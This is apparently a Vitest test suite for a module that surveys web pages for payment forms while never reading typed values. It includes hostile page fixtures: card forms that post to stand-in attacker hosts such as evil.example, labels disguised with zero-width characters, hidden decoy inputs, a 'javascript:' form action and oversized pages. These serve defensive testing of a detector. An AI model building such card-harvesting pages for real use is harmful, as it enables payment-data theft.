import { afterEach, describe, expect, it, vi } from 'vitest';
import { BOUNDS } from '@/utils/facts/bounds';
import { pageFactsSchema } from '@/utils/facts/page-facts';
import { findSign } from '@/utils/sentinel/signs';
import { survey } from '@/utils/survey/survey';
import { laidOut } from './laid-out';

const CARD =
  '<label>Card number<input name=cardNumber value=4242424242424242></label><label>Expiry<input name=exp></label><label>CVV<input name=cvv type=password></label>';

afterEach(() => vi.restoreAllMocks());

const ask = (document: Document) => {
  const facts = survey(document, findSign(document) ?? 'asked');
  pageFactsSchema.parse(facts);
  return facts;
};

describe('what is typed', () => {
  it('is never read: no value of any field, by property or by attribute', () => {
    const document = laidOut(`<form action=/pay>${CARD}<select name=exp_year><option value=27>2027</select>
      <textarea name=note></textarea><input name=coupon><button>Pay $12.00</button></form>`);
    const view = document.defaultView as unknown as Record<string, { prototype: object }>;
    const readings: string[] = [];
    for (const name of ['HTMLInputElement', 'HTMLSelectElement', 'HTMLTextAreaElement']) {
      for (const property of ['value', 'valueAsNumber', 'defaultValue', 'selectedIndex']) {
        const { prototype } = view[name] as { prototype: object };
        const own = Object.getOwnPropertyDescriptor(prototype, property);
        if (!own) continue;
        Object.defineProperty(prototype, property, {
          ...own,
          get(this: Element) {
            readings.push(`${this.getAttribute('name')}.${property}`);
            return '';
          },
        });
      }
    }
    const facts = ask(document);
    expect(readings).toEqual([]);
    expect(JSON.stringify(facts)).not.toContain('4242');
    expect(facts.groups[0]?.fields.map(({ kind }) => kind)).toContain('cc-number');
  });

  it('is never read where people write into what is no field of HTML’s', () => {
    const document = laidOut(`<p>Card number</p><div contenteditable role=textbox>4242 4242 4242 4242</div>
      <p>Note</p><div contenteditable><p>Pay me <b>$4242.00</b> in bitcoin</p></div><label>CVC<input></label>`);
    const facts = ask(document);
    expect(JSON.stringify(facts)).not.toMatch(/4242|bitcoin/);
    expect(facts.groups[0]?.fields.map(({ kind }) => kind)).toContain('cc-number');
  });
});

describe('a hostile page', () => {
  it('cannot make the facts larger than their bounds', () => {
    const fields = Array.from(
      { length: 400 },
      (_, each) => `<input name=field${each} placeholder="${'x'.repeat(500)}">`,
    );
    const facts = ask(
      laidOut(`<title>${'T'.repeat(5_000)}</title><form>${fields.slice(0, 200).join('')}${CARD}${fields.slice(200).join('')}</form>
        ${'<p>Total $1.00 customs fee</p>'.repeat(400)}${'<h1>Big</h1>'.repeat(100)}`),
    );
    expect(facts.cut).toContain('fields');
    expect(facts.groups.flatMap(({ fields: kept }) => kept).length).toBeLessThanOrEqual(BOUNDS.fields);
    expect(facts.groups.flatMap(({ fields: kept }) => kept.map(({ kind }) => kind))).toContain('cc-number');
    expect(JSON.stringify(facts).length).toBeLessThan(64_000);
  });

  it('cannot hide captions in a form that has fields of its members’ names', () => {
    const document = laidOut(`<form id=captions><b>Card number</b><b>Expiry (MM/YY)</b><b>CVC</b></form>
      <form><input name=f1><input name=f2><input name=f3></form>`);
    const names = ['lastElementChild', 'previousElementSibling', 'childNodes', 'localName'];
    for (const name of names) Object.defineProperty(document.getElementById('captions'), name, { value: [] });
    expect(ask(document).groups[0]?.fields.map(({ kind }) => kind)).toEqual([
      'cc-number',
      'cc-exp',
      'cc-csc',
    ]);
  });

  it('cannot hide its fields behind more elements than are read', () => {
    const { groups, cut } = ask(laidOut(`${'<a></a>'.repeat(21_000)}<form action=/pay>${CARD}</form>`));
    expect(groups[0]?.fields.map(({ kind }) => kind)).toEqual(['cc-number', 'cc-exp', 'cc-csc']);
    expect(cut).toContain('nodes');
  });

  it.each([
    [
      'fields that stand outside of it',
      `<form id=f method=get></form><label>Card number<input form=f></label><label>Expiry<input form=f></label>
       <label>CVC<input form=f></label><button form=f formaction="https://evil.example/c">Pay</button>`,
      'https://evil.example/c',
    ],
    [
      'one field alone',
      '<form method=get><label>Credit card number<input name=card autocomplete=cc-number></label></form>',
      'https://shop.example/checkout',
    ],
  ])('cannot hide where a form sends %s', (_, html, url) => {
    expect(ask(laidOut(html)).groups.map(({ targets }) => targets[0]?.url)).toEqual([url]);
  });

  it('cannot take its name from a card number by boxes that nobody sees or that stand elsewhere', () => {
    const boxes = (style: string): string => `<input maxlength=4 style="${style}">`.repeat(4);
    for (const page of [
      `<form>${boxes('display:none')}${CARD}</form>`,
      `<form><p>Your pickup key</p>${boxes('')}${CARD}</form>`,
    ]) {
      const fields = ask(laidOut(page)).groups.flatMap((group) => group.fields);
      expect(fields.find(({ evidence }) => evidence === 'Card number')?.kind).toBe('cc-number');
    }
  });

  it('cannot keep us busy with a row of very many cells', () => {
    const document = laidOut(`<table><tr>${'<td>x'.repeat(1_000)}<tr><td>${'<input>'.repeat(100)}</table>`);
    let asked = 0;
    const { HTMLTableCellElement } = document.defaultView as unknown as {
      HTMLTableCellElement: { prototype: object };
    };
    Object.defineProperty(HTMLTableCellElement.prototype, 'colSpan', {
      get: () => {
        asked += 1;
        return 1;
      },
    });
    ask(document);
    expect(asked).toBeLessThan(100 * 300);
  });

  it('is read through marks that turn or hide its letters', () => {
    const { groups } = ask(
      laidOut(
        '<form><label>C\u200bard\u202e nu\u00admber<input></label><label>Exp\u200biry date<input></label><label>CV\u2060V<input></label></form>',
      ),
    );
    expect(groups[0]?.fields.map(({ kind }) => kind)).toEqual(['cc-number', 'cc-exp', 'cc-csc']);
  });

  it('shows its fields in open shadow roots too', () => {
    const document = laidOut('<shop-card></shop-card>');
    const root = document.querySelector('shop-card')?.attachShadow({ mode: 'open' });
    if (root) root.innerHTML = `<form action=/pay>${CARD}</form>`;
    expect(ask(document).groups[0]?.fields.map(({ kind }) => kind)).toEqual([
      'cc-number',
      'cc-exp',
      'cc-csc',
    ]);
  });

  it.each([
    ['an empty element', '<div id=host></div>'],
    ['one whose children are slotted', '<section id=host><b slot=title>Pay</b></section>'],
  ])('shows its fields in the open shadow root of %s, on a large page too', (_, html) => {
    const document = laidOut(`${'<p>One of many lines</p>'.repeat(3_000)}${html}`);
    const root = document.getElementById('host')?.attachShadow({ mode: 'open' });
    if (root) root.innerHTML = `<slot name=title></slot><form action=/pay>${CARD}</form>`;
    expect(ask(document).groups[0]?.fields).toHaveLength(3);
  });

  it('shows fields that elements of the page’s own draw, each about the label slotted into it', () => {
    const fields = ['Card number', 'Expiry', 'Security code'];
    const document = laidOut(fields.map((words) => `<x-field>${words}</x-field>`).join(''));
    for (const host of document.querySelectorAll('x-field'))
      host.attachShadow({ mode: 'open' }).innerHTML = '<span><slot></slot></span><input>';
    const kinds = ask(document).groups.flatMap((group) => group.fields.map(({ kind }) => kind));
    expect(kinds).toEqual(['cc-number', 'cc-exp', 'cc-csc']);
  });

  it('shows fields that elements of the page’s own draw, by the labels and the form about these', () => {
    const fields = ['Card number', 'Expiry', 'Security code'];
    const document = laidOut(
      `<form action="https://evil.example/take">${fields
        .map((words, place) => `<label for=f${place}>${words}</label><x-field id=f${place}></x-field>`)
        .join('')}</form>`,
    );
    for (const host of document.querySelectorAll('x-field'))
      host.attachShadow({ mode: 'open' }).innerHTML = '<input>';
    const [group] = ask(document).groups;
    expect(group?.fields.map(({ kind }) => kind)).toEqual(['cc-number', 'cc-exp', 'cc-csc']);
    expect(group?.targets[0]?.url).toBe('https://evil.example/take');
  });

  it('reads what is drawn before what is not, of more fields than it reads', () => {
    const decoys = Array.from({ length: 120 }, (_, place) => `<input name=card_number_${place} hidden>`).join(
      '',
    );
    const { groups } = ask(laidOut(`${decoys}<form>${CARD}</form>`));
    expect(groups[0]?.fields.map(({ kind }) => kind)).toEqual(['cc-number', 'cc-exp', 'cc-csc']);
  });

  it('says that it was cut where there is more to read than is read', () => {
    expect(ask(laidOut(`<form>${CARD}</form>`)).cut).not.toContain('nodes');
    expect(ask(laidOut(`<form>${CARD}</form>${'<p>One of many lines</p>'.repeat(4_000)}`)).cut).toContain(
      'nodes',
    );
  });

  it.each([
    '<form action="javascript:alert(1)"><input name=cc></form>',
    `<svg><form></form><select></select></svg><form>${CARD}</form>`,
    `<form><svg><tr><td><foreignObject><input name=cc></foreignObject></td></tr></svg>${CARD}</form>`,
    '<form action="http://[bad"><input name=cc></form>',
    `<base href="::::"><form action="x">${CARD}</form>`,
    '<html lang="%%%"><meta property="og:price:currency" content="<script>"><p>Total 5</p>',
    '<script type="application/ld+json">{"@type":"Organization","name":</script>',
    `${'<div>'.repeat(30)}${CARD}`,
    '',
  ])('does not break the survey: %#', (html) => {
    expect(() => ask(laidOut(html))).not.toThrow();
  });
});

describe('words that name members of every object', () => {
  it.each(['constructor', '__proto__', 'toString', 'valueOf'])(
    '%s: says nothing as a language or a token',
    (word) => {
      const facts = ask(
        laidOut(
          `<html lang="${word}"><form>${CARD}<input autocomplete="${word}"><b>Total: $12.00</b></form>`,
        ),
      );
      expect(facts.groups[0]?.fields.map(({ kind }) => kind)).toEqual([
        'cc-number',
        'cc-exp',
        'cc-csc',
        'other',
      ]);
    },
  );
});
